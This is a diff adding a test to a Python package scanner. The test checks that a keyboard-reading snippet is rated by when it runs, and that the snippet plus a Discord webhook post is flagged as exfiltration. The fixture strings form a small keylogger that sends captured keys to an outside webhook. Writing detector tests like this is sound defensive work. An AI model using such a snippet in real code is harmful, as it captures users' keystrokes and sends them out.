@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from rulekit import ids, py, run, severities
 
-from pipvet.analysis.rules import secrets
+from pipvet.analysis.rules import exfiltration, secrets
 from pipvet.models import Severity, Stage
 
 R = secrets.RULES
@@ -152,6 +152,25 @@ def test_keylogger_and_proc_environ() -> None:
     assert "PV-SEC-ENVDUMP" in ids(run(R, environ))
     benign = py("def keyboard_layout():\n    return 'qwerty'\nPROC = '/proc/%d/environ'\n")
     assert run(R, benign) == []
+
+
+def test_reading_the_keyboard_when_called_is_what_input_libraries_do() -> None:
+    """pynput and pyglet read key state in functions; at import time, or with a way out in the
+    same file, it is a keylogger's shape."""
+    library = (
+        "import ctypes\n"
+        "_GetAsyncKeyState = ctypes.windll.user32.GetAsyncKeyState\n"
+        "def pressed(vk):\n"
+        "    return _GetAsyncKeyState(vk) & 0x8000\n"
+    )
+    assert severities(R, py(library, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.MEDIUM]
+    assert severities(R, py(library, stage=Stage.IMPORT), "PV-SEC-STEALER") == [Severity.HIGH]
+    sender = library + (
+        "import requests\n"
+        "def report(keys):\n"
+        "    requests.post('https://discord.com/api/webhooks/1/x', data={'keys': keys})\n"
+    )
+    assert "PV-EXF-COMBO" in ids(run(exfiltration.RULES, py(sender, stage=Stage.RUNTIME)))
 
 
 def test_kubernetes_service_account_token_is_a_credential_store() -> None:
